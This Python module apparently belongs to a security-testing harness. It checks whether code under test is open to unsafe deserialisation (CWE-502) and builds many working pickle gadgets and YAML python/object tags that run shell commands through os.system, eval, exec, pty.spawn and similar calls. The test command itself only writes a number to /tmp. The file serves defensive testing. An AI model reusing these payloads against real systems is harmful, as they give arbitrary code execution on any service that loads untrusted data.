"""Decides CWE-502 in Python: does loading data from outside run code that the data chooses?

Exploited: an object in a pickle, or a tag in YAML, made a shell compute a product of two random numbers, for which the
data only asks. Exercised: a benign document with random content was loaded, and the call went on without an error.
"""
# ruff: noqa: E501 - tables

import base64
import json
import pickle
import re

from seccoder.oracles.executed.attempts import (
    APP,
    Attempt,
    Exploit,
    Judgement,
    Run,
    Tokens,
    Use,
    Wanted,
    attacks_of,
    benign_of,
    literals_like_files,
)
from seccoder.oracles.executed.surface import Surface

NAME = "deserialise"
CWES = ("CWE-502",)
HINT = ""


def want(surface: Surface, tokens: Tokens) -> Wanted:
    """Want documents as values (plain and in base64) and as files of the names that the source mentions."""
    plain = json.dumps({"name": tokens.inside})
    pickled = base64.b64encode(_pickle_text(tokens.inside)).decode()
    command = f"echo $(({tokens.a}*{tokens.b}))>/tmp/{tokens.mark}.{{N}}"
    bomb = _pickle_call(command)
    tag = f'!!python/object/apply:os.system ["{command}"]'
    attacks: list[dict[str, object]] = [{"value": tag}, {"value": f"x: {tag}"}, {"value": bomb.decode()}]
    # an encoded value cannot hold the attempt's number
    fixed = command.replace("{N}", "encoded")
    attacks.append({"value": base64.b64encode(_pickle_call(fixed)).decode(), "encoded": "encoded"})
    for gadget in _gadgets(command):  # against code that lists what is forbidden
        attacks.append({"value": gadget.decode()})
    for number, gadget in enumerate(_gadgets(command.replace("{N}", "g"))):
        attacks.append({"value": base64.b64encode(gadget).decode(), "encoded": "g"} if number else {"value": tag})
    attacks += [{"value": text.replace("{C}", command)} for text in _TAGS]
    attacks += [
        {"value": "!!python/name:os.system", "made": "system"},
        {"value": f"!!python/object/apply:os.system [>/tmp/{tokens.tiny}{{N}}]"},
    ]
    keys = list(dict.fromkeys(text for text in surface.literals if re.fullmatch(r"[A-Za-z_]\w{0,30}", text)))[:14]
    own = [text for text in keys if len(text) < 3]  # a short key, which may be a code that must be one of a few
    filled = [
        json.dumps({key: value for key in keys} | {"name": tokens.inside}) for value in (tokens.inside, 7, *own[:2])
    ]
    filled.append(json.dumps({key: [dict.fromkeys(keys, 7)] for key in keys} | {"name": tokens.inside}))
    whole = pickle.dumps(dict.fromkeys(keys, tokens.inside) | {"name": tokens.inside}, protocol=0)
    pickles = [whole.decode("latin-1"), base64.b64encode(whole).decode()]
    wanted = Wanted(
        benign=[*pickles, plain, f"name: {tokens.inside}", pickled, *filled],
        watch=["/tmp"],  # noqa: S108 - the box's own
        observe=("loads",),
    )
    # documents as files, for code that is given the place of one
    pickled_file = {"name": tokens.inside}
    for ending, sound in (
        (".json", plain.encode()),
        (".yaml", plain.encode()),
        (".pickle", pickle.dumps(pickled_file, 0)),
    ):
        wanted.benign_files[f"{APP}/{tokens.word}{ending}"] = sound
        wanted.benign.append(f"{APP}/{tokens.word}{ending}")
    for ending, evil_file in (
        (".yaml", tag.replace("{N}", "atyaml").encode()),
        (".pickle", _pickle_call(command.replace("{N}", "atpickle"))),
    ):
        wanted.files[f"{APP}/{tokens.mark}{ending}"] = evil_file
        attacks.append({"value": f"{APP}/{tokens.mark}{ending}", "encoded": f"at{ending[1:]}"})
    documents = {"yaml": (f"name: {tokens.inside}\n".encode(), '!!python/object/apply:os.system ["{}"]\n')}
    for index, name in enumerate(literals_like_files(surface.literals)):
        path = name if name.startswith("/") else f"{APP}/{name}"
        mine = command.replace("{N}", f"file{index}")
        if name.endswith((".pkl", ".pickle", ".p", ".dat", ".bin", ".cache")):
            wanted.benign_files[path] = _pickle_text(tokens.inside)
            attacks.append({"value": "", "files": {path: _pickle_call(mine)}, "encoded": f"file{index}"})
        elif name.endswith((".yml", ".yaml")):
            benign, evil = documents["yaml"]
            wanted.benign_files[path] = benign
            attacks.append({"value": "", "files": {path: evil.format(mine).encode()}, "encoded": f"file{index}"})
    wanted.attacks = attacks
    return wanted


def _pickle_text(text: str) -> bytes:
    """Return a dictionary with one text as a pickle of protocol 0."""
    return f"(dVname\nV{text}\ns.".encode()


def _pickle_call(command: str) -> bytes:
    """Return a pickle of protocol 0 that calls `os.system`. It is ASCII, so that it also passes through text."""
    return f"cos\nsystem\n(V{command}\ntR.".encode()


_TAGS = (
    '!!python/object/apply:subprocess.check_output [["sh", "-c", "{C}"]]', '!!python/object/new:os.system ["{C}"]',
    '!!python/object/apply:builtins.eval ["__import__(\'os\').system(\'{C}\')"]', '!!python/object/apply:posix.system ["{C}"]',
    '!!python/object/new:tuple [!!python/object/apply:os.system ["{C}"]]',
)  # fmt: skip


def _gadgets(command: str) -> list[bytes]:
    """Return pickles of protocol 0 that run a command through other functions than `os.system`."""
    code = f"__import__('os').system({command!r})"
    calls = [
        f"cposix\nsystem\n(V{command}\ntR.", f"csubprocess\ngetoutput\n(V{command}\ntR.", f"cbuiltins\neval\n(V{code}\ntR.",
        f"cbuiltins\nexec\n(V{code}\ntR.", f"ctimeit\ntimeit\n(Vpass\nV{code}\ntR.", f"ccProfile\nrun\n(V{code}\ntR.",
        f"cpydoc\npipepager\n(Vx\nV{command}\ntR.", f"cpty\nspawn\n((lVsh\naV-c\naV{command}\natR.",
    ]  # fmt: skip
    return [call.encode() for call in calls]


def uses(attempt: Attempt, tokens: Tokens) -> list[Use]:
    """Return the documents that were loaded by what can make more than plain values of them."""
    loads = attempt.called("load")
    return [Use("document", c.line, c.text("text")) for c in loads if not c.text("name").startswith("json")]


def judge(run: Run, tokens: Tokens) -> Judgement:
    """Look for products that only a shell can have computed."""
    judgement = Judgement()
    if any(
        not attempt.error
        and attempt.status < 400
        and (
            tokens.inside.encode() in attempt.said
            or any(tokens.inside in c.text("text") for c in attempt.called("load"))
        )
        for attempt in benign_of(run)
    ):
        judgement.reached.update(CWES)
    done = {path.rpartition(".")[2] for path, data in run.written.items() if data.strip() == tokens.product.encode()}
    touched = {path.rpartition("/")[2] for path in run.written}
    for attempt in attacks_of(run, NAME):
        made = attempt.case.get("made")
        named = made and any(f"function {made}>" in call.text("text") for call in attempt.called("load"))
        if str(attempt.case.get("encoded", attempt.n)) in done or named or f"{tokens.tiny}{attempt.n}" in touched:
            judgement.exploits.append(
                Exploit(CWES, attempt.entry, attempt.payload, attempt.line, "loading the input ran a command it holds")
            )
    return judgement
